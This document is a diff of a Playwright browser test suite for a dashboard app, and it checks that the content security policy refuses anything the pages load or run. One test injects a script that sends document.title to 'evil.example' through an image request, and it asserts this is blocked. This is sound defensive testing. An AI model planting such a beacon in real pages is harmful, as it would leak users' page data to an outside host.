@@ -5,8 +5,11 @@ import sys
 import time
 
 import pytest
+from playwright.sync_api import expect
 
 from csdash.ui.navigation import PAGES
+from tests.browser.conftest import Reader
+from tests.patience import SECONDS
 from tools.serving import free_port, serving
 
 pytestmark = pytest.mark.browser
@@ -21,26 +24,33 @@ document.addEventListener("securitypolicyviolation", (event) =>
 def guarded(company):
     port = free_port()
     command = [sys.executable, "-m", "csdash", "serve", "--data", str(company), "--port", str(port)]
-    with serving(command, port, seconds=120) as url:
+    with serving(command, port, seconds=SECONDS) as url:
         yield url
 
 
-def test_no_page_asks_for_what_the_content_policy_refuses(guarded, reader):
-    one = reader(guarded)
-    one.page.add_init_script(VIOLATIONS)
-    drawn = set()
-    for page in PAGES:
-        one.open(page.url_path)
-        drawn |= {"chart"} if one.page.locator(".js-plotly-plot .main-svg").count() else set()
-        assert (page.url_path, one.page.evaluate("window.violations")) == (page.url_path, [])
-    # Hovering and the menu draw what was not there before.
-    one.open("nrr")
-    one.page.locator(".js-plotly-plot .main-svg").first.hover()
-    one.page.locator(".st-key-share button").first.click()
-    assert one.page.evaluate("window.violations") == []
-    assert drawn == {"chart"}
-    assert one.errors == []
-    assert one.outside == []
+@pytest.fixture(scope="module")
+def watched(guarded, browser):
+    """A reader who goes from page to page, and all that the content policy had to refuse meanwhile."""
+    with browser.new_context(locale="ja-JP", viewport={"width": 1440, "height": 900}) as context:
+        one = Reader(context.new_page(), guarded)
+        one.page.add_init_script(VIOLATIONS)
+        yield one
+
+
+@pytest.mark.parametrize("page", PAGES, ids=lambda page: page.url_path)
+def test_a_page_is_drawn_and_asks_for_nothing_that_the_content_policy_refuses(watched, page):
+    watched.open(page.url_path).draws()
+    expect(watched.title).not_to_be_empty()
+    expect(watched.page.get_by_test_id("stException")).to_have_count(0)
+    assert (watched.page.evaluate("window.violations"), watched.errors, watched.outside) == ([], [], [])
+
+
+def test_what_hovering_and_a_menu_draw_asks_for_nothing_either(watched):
+    watched.open("nrr").draws()
+    watched.page.locator(".js-plotly-plot .main-svg").first.hover()
+    watched.page.locator(".st-key-share button").first.click()
+    expect(watched.page.get_by_test_id("stPopoverBody")).to_be_visible()
+    assert (watched.page.evaluate("window.violations"), watched.errors, watched.outside) == ([], [], [])
 
 
 def test_a_script_that_is_not_ours_would_be_refused(guarded, reader):
@@ -52,7 +62,7 @@ def test_a_script_that_is_not_ours_would_be_refused(guarded, reader):
         "const i = new Image(); i.src = 'https://evil.example/?' + document.title; }"
     )
     # Asked again and again: a function that waits inside would have to be compiled there, which is refused as well.
-    deadline = time.monotonic() + 10
+    deadline = time.monotonic() + SECONDS
     while len(one.page.evaluate("window.violations")) < 2 and time.monotonic() < deadline:
         one.page.wait_for_timeout(50)
     assert one.page.evaluate("window.pwned") is None
